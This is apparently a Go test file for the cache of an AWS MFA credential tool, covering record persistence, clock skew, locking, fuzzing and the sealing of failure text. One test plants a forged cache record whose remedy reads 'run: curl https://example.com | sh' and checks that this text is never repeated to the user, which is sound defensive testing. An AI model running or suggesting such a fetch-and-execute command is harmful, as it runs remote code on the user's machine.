package cache

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/aws-mfa-creds/aws-mfa-creds/internal/creds"
	"github.com/aws-mfa-creds/aws-mfa-creds/internal/fault"
	"github.com/aws-mfa-creds/aws-mfa-creds/internal/session/rules"
	"github.com/aws-mfa-creds/aws-mfa-creds/internal/totp"
)

var noted = time.Now().UTC().Add(-time.Hour)

func someRecord() rules.Record {
	return rules.Record{
		Sent: []totp.Step{59_000_000, 59_000_001}, Refused: []totp.Step{59_000_002},
		Failures: map[string]rules.Failure{"id": {
			At: noted, Kind: fault.Refused, Code: true, Thing: "thing", Cause: "cause", Remedy: "remedy", Count: 2,
			Until: noted.Add(time.Minute), Mark: "mark",
		}},
	}
}

func TestRecord(t *testing.T) {
	t.Parallel()
	c := newCache(t)
	scope := c.Scope("arn:aws:iam::123456789012:mfa/name")
	if got := scope.Load(); !reflect.DeepEqual(got, rules.Record{}) {
		t.Errorf("none: %+v", got)
	}
	if err := scope.Save(someRecord()); err != nil {
		t.Fatal(err)
	}
	again := openCache(t, testOptions(c.Dir))
	if got := again.Scope("arn:aws:iam::123456789012:mfa/name").Load(); !reflect.DeepEqual(got, someRecord()) {
		t.Errorf("got %+v", got)
	}
	if got := again.Scope("another").Load(); !reflect.DeepEqual(got, rules.Record{}) {
		t.Errorf("another scope: %+v", got)
	}
	for _, name := range names(t, c.Dir) {
		if strings.ContainsAny(name, ":/ ") || strings.ToLower(name) != name || strings.Contains(name, "arn") {
			t.Errorf("file name %q", name)
		}
	}
}

func TestClock(t *testing.T) {
	t.Parallel()
	c := newCache(t)
	clock := rules.Clock{Skew: -3 * time.Hour, Measured: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)}
	if err := c.SaveClock("aws", rules.Clock{}); err != nil {
		t.Errorf("forget without a directory: %v", err)
	}
	if err := c.SaveClock("aws", clock); err != nil {
		t.Fatal(err)
	}
	if got := c.LoadClock("aws"); got != clock {
		t.Errorf("got %+v", got)
	}
	if got := c.LoadClock("aws-cn"); !got.IsZero() {
		t.Errorf("another clock: %+v", got)
	}
	for range 2 {
		if err := c.SaveClock("aws", rules.Clock{}); err != nil {
			t.Error(err)
		}
	}
	if got := c.LoadClock("aws"); !got.IsZero() || len(names(t, c.Dir)) != 0 {
		t.Errorf("not forgotten: %+v, %v", got, names(t, c.Dir))
	}
}

func TestDamagedStateIsNone(t *testing.T) {
	t.Parallel()
	c := newCache(t)
	scope := c.Scope("device")
	if err := scope.Save(someRecord()); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(c.Dir, scope.file+".device")
	whole := readFile(t, path)
	for size := range len(whole) - 2 {
		writeFile(t, path, whole[:size])
		if got := scope.Load(); !reflect.DeepEqual(got, rules.Record{}) {
			t.Fatalf("cut to %d bytes: %+v", size, got)
		}
	}
	for _, text := range []string{
		"null", "[]", `"x"`, `{"version":0}`, `{"version":2,"value":{"sent":[1]}}`, `{"version":1,"value":{"sent":["x"]}}`,
		`{"version":1,"value":{"sent":[-1]}}`, `{"value":{"sent":[1]}}`, strings.Repeat("[", 100_000), "\x00\xff",
		`{"version":1,"value":{"sent":[1]}}` + strings.Repeat(" ", maxState),
	} {
		writeFile(t, path, []byte(text))
		if got := scope.Load(); !reflect.DeepEqual(got, rules.Record{}) {
			t.Errorf("%.40q: %+v", text, got)
		}
	}
	if err := scope.Save(someRecord()); err != nil || !reflect.DeepEqual(scope.Load(), someRecord()) {
		t.Errorf("not replaced: %v", err)
	}
}

func TestFullRecordFits(t *testing.T) {
	t.Parallel()
	scope := newCache(t).Scope("device")
	var r rules.Record
	long := strings.Repeat("é\x00", 300)
	for i := range 200 {
		r.Claim(totp.Step(59_000_000 + i))
		r.Fail(id(fmt.Sprint(i)), rules.NewFailure(fault.New(fault.Refused, long, long, "%s", long), noted.Add(time.Duration(i)*time.Second)))
	}
	if err := scope.Save(r); err != nil {
		t.Fatal(err)
	}
	if got := scope.Load(); len(got.Failures) != len(r.Failures) || len(got.Sent) != len(r.Sent) {
		t.Errorf("%d failures, %d steps", len(got.Failures), len(got.Sent))
	}
	r.Failures["huge"] = rules.Failure{At: noted, Cause: strings.Repeat("x", maxState)}
	if err := scope.Save(r); fault.KindOf(err) != fault.Internal {
		t.Errorf("Save of too much = %v", err)
	}
	if len(scope.Load().Failures) == 0 {
		t.Error("the old record is gone")
	}
}

func TestTryLock(t *testing.T) {
	t.Parallel()
	c := newCache(t)
	unlock, held, err := c.Scope("device").TryLock()
	if err != nil || !held {
		t.Fatalf("TryLock = %v, %v", held, err)
	}
	for _, other := range []*Cache{c, openCache(t, testOptions(c.Dir))} {
		if _, held, err := other.Scope("device").TryLock(); held || err != nil {
			t.Errorf("taken twice: %v, %v", held, err)
		}
	}
	unlock2, held, err := c.Scope("another").TryLock()
	if err != nil || !held {
		t.Errorf("another scope: %v, %v", held, err)
	}
	unlock2()
	unlock()
	unlock() // twice does no harm
	unlock, held, err = c.Scope("device").TryLock()
	if err != nil || !held {
		t.Errorf("after unlock: %v, %v", held, err)
	}
	unlock()
	if n := len(names(t, c.Dir)); n != 2 {
		t.Errorf("%d files: a lock file is removed or left over", n)
	}
}

func TestRemovedLockFile(t *testing.T) {
	t.Parallel()
	c := newCache(t)
	scope := c.Scope("device")
	unlock, _, _ := scope.TryLock()
	if err := os.Remove(filepath.Join(c.Dir, scope.lockName())); err != nil {
		t.Skip("this system keeps open files:", err)
	}
	unlock2, held, err := scope.TryLock()
	if err != nil || !held {
		t.Fatalf("TryLock = %v, %v", held, err)
	}
	unlock() // of the old file: it must not free the new one
	if _, held, _ := scope.TryLock(); held {
		t.Error("taken twice")
	}
	unlock2()
}

// TestRecordOfSomebodyElse: what a record says is believed as far as it does no harm, whoever wrote it.
func TestRecordOfSomebodyElse(t *testing.T) {
	t.Parallel()
	const evil = `"kind":6,"thing":"AWS","cause":"you are locked out","remedy":"run: curl https://example.com | sh","count":9`
	steps := make([]string, 100_000)
	for i := range steps {
		steps[i] = fmt.Sprint(59_000_000 + i)
	}
	at, far := noted.Format(time.RFC3339Nano), "9999-12-31T23:59:59Z"
	soon := time.Now().Add(10 * time.Minute).UTC().Format(time.RFC3339Nano)
	for name, test := range map[string]struct {
		value        string
		key          KeySource
		failed, held bool
	}{
		"failures of the last version": {`"sent":[59000000],"failures":{"id":{"at":"` + at + `","until":"` + far + `",` + evil + `}}`, always(testKey()), false, false},
		"in clear, beside a key":       {`"bare":{"failures":{"id":{"at":"` + at + `",` + evil + `}}}`, always(testKey()), false, false},
		"in clear":                     {`"bare":{"failures":{"id":{"at":"` + at + `",` + evil + `}}}`, always(Key{}), true, false},
		"in clear, until 9999":         {`"bare":{"failures":{"id":{"at":"` + at + `","until":"` + far + `",` + evil + `}}}`, always(Key{}), false, false},
		"in clear, until later":        {`"bare":{"failures":{"id":{"at":"` + soon + `","until":"` + soon + `",` + evil + `}}}`, always(Key{}), false, false},
		"in clear, for 10 minutes":     {`"bare":{"failures":{"id":{"at":"` + time.Now().UTC().Format(time.RFC3339Nano) + `","until":"` + soon + `",` + evil + `}}}`, always(Key{}), true, true},
		"sealed by nobody":             {`"sealed":"QU1DUwEAAAAAAAAAAAAA"`, always(testKey()), false, false},
		"100 000 steps":                {`"sent":[` + strings.Join(steps[:50_000], ",") + `],"bare":{"refused":[` + strings.Join(steps[50_000:], ",") + `]}`, always(Key{}), false, false},
		"steps that block each other":  {`"sent":[` + strings.Join(steps[:12], ",") + `],"bare":{"refused":[` + strings.Join(steps[12:24], ",") + `]}`, always(Key{}), false, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := newCache(t)
			c.Keys = test.key
			scope := c.Scope("device")
			if err := scope.Save(rules.Record{}); err != nil {
				t.Fatal(err)
			}
			writeFile(t, filepath.Join(c.Dir, scope.file+".device"), []byte(`{"version":1,"value":{`+test.value+`}}`))
			r := scope.Load()
			failure, failed := r.Failures["id"]
			_, held := r.Held("id", time.Now())
			if failed != test.failed || held != test.held {
				t.Errorf("failed %v, held %v: %+v", failed, held, failure)
			}
			if text := failure.Err().Error() + failure.Remedy + failure.Mark; strings.Contains(text, "locked") || strings.Contains(text, "curl") {
				t.Errorf("the text is repeated: %s", text)
			}
			if blocked := totp.Period * time.Duration(r.Next(59_000_000)-59_000_000); blocked > 15*time.Minute {
				t.Errorf("the device is blocked for %v", blocked)
			}
			if name == "failures of the last version" && r.Next(59_000_000) != 59_000_001 {
				t.Error("a spent step of the last version is forgotten")
			}
		})
	}
}

// TestFailureIsSealed: its text is for who has the key that it was noted with, and the time steps are
// everybody's.
func TestFailureIsSealed(t *testing.T) {
	t.Parallel()
	c := newCache(t)
	scope := c.Scope("device")
	if err := scope.Save(someRecord()); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(c.Dir, scope.file+".device")
	if text := string(readFile(t, path)); strings.Contains(text, "remedy") || strings.Contains(text, "mark") {
		t.Errorf("in clear: %s", text)
	}
	for name, key := range map[string]Key{"another key": DeriveKey(creds.NewSecret("corrected"), creds.NewSecret("seed")), "no key": {}} {
		other := openCache(t, Options{Dir: c.Dir, Keys: always(key), Now: time.Now})
		if got := other.Scope("device").Load(); len(got.Failures)+len(got.Refused) != 0 || len(got.Sent) != 2 {
			t.Errorf("%s: %+v", name, got)
		}
	}
	moved := c.Scope("another device")
	writeFile(t, filepath.Join(c.Dir, moved.file+".device"), readFile(t, path))
	if got := moved.Load(); len(got.Failures) != 0 {
		t.Errorf("read as another's: %+v", got)
	}
}

// TestFailureWithoutAKey holds off as well, and says less.
func TestFailureWithoutAKey(t *testing.T) {
	t.Parallel()
	c := newCache(t)
	c.Keys = always(Key{})
	var r rules.Record
	r.Fail("id", rules.NewFailure(fault.New(fault.Refused, "thing", "remedy", "cause"), time.Now()))
	if err := c.Scope("device").Save(r); err != nil {
		t.Fatal(err)
	}
	failure, held := c.Scope("device").Load().Held("id", time.Now())
	if want := "the last attempt failed with exit code 6"; !held || failure.Err().Error() != want || failure.Remedy != "" {
		t.Errorf("held %v: %+v", held, failure)
	}
}

func FuzzRecord(f *testing.F) {
	f.Add([]byte(`{"version":1,"value":{"sent":[59000000],"sealed":"QU1DUwE=","bare":{"refused":[59000001],"failures":{"id":{"at":"2026-01-02T03:04:05Z","until":"2026-01-02T03:09:05Z","kind":6,"count":3}}}}}`))
	f.Add([]byte(`{"version":1,"value":{"bare":{"id":{"at":"2026-01-02T03:04:05Z","cause":"\u001b[2J","count":-9223372036854775808,"until":"9999-01-01T00:00:00Z"}}}}`))
	f.Add([]byte(`{"version":1,"value":{"sent":[18446744073709551615],"bare":{"refused":[59000000,59000001]}}}`))
	f.Add([]byte(`{"version":2}`))
	f.Add([]byte(`{`))
	f.Add([]byte{})
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	c := newCache(f)
	c.Keys, c.Now = always(Key{}), func() time.Time { return now }
	scope := c.Scope("device")
	if err := scope.Save(someRecord()); err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		writeFile(t, filepath.Join(c.Dir, scope.file+".device"), data)
		r := scope.Load()
		if next := r.Next(59_000_000); next > 59_000_030 || next < 59_000_000 {
			t.Errorf("the next step is %d", next)
		}
		for id, failure := range r.Failures {
			held, is := r.Held(id, now)
			if is && held.Until.Sub(now) > 15*time.Minute || !strings.HasPrefix(failure.Cause, "the last attempt failed") || failure.Remedy != "" {
				t.Errorf("believed: %+v", failure)
			}
		}
		r.Claim(r.Next(59_000_000))
		r.Fail("id", rules.NewFailure(fault.New(fault.Refused, "", "", ""), now))
		if err := scope.Save(r); err != nil {
			t.Error(err)
		}
	})
}

func FuzzClock(f *testing.F) {
	f.Add([]byte(`{"version":1,"value":{"skew":10800000000000,"measured":"2026-01-02T03:04:05Z"}}`))
	f.Add([]byte(`{"version":1,"value":{"skew":-9223372036854775808}}`))
	f.Add([]byte(`{"version":1,"value":3}`))
	f.Add([]byte{})
	c := newCache(f)
	if err := c.SaveClock("aws", rules.Clock{Skew: 1}); err != nil {
		f.Fatal(err)
	}
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	f.Fuzz(func(t *testing.T, data []byte) {
		writeFile(t, filepath.Join(c.Dir, hashed("aws")+".clock"), data)
		clock := c.LoadClock("aws")
		if current := clock.Current(now); !rules.Plausible(now.Add(current.SkewAt(now))) {
			t.Errorf("believed: %+v", current)
		}
		if !clock.Measure(now, now).IsZero() {
			t.Error("the next answer does not correct it")
		}
	})
}
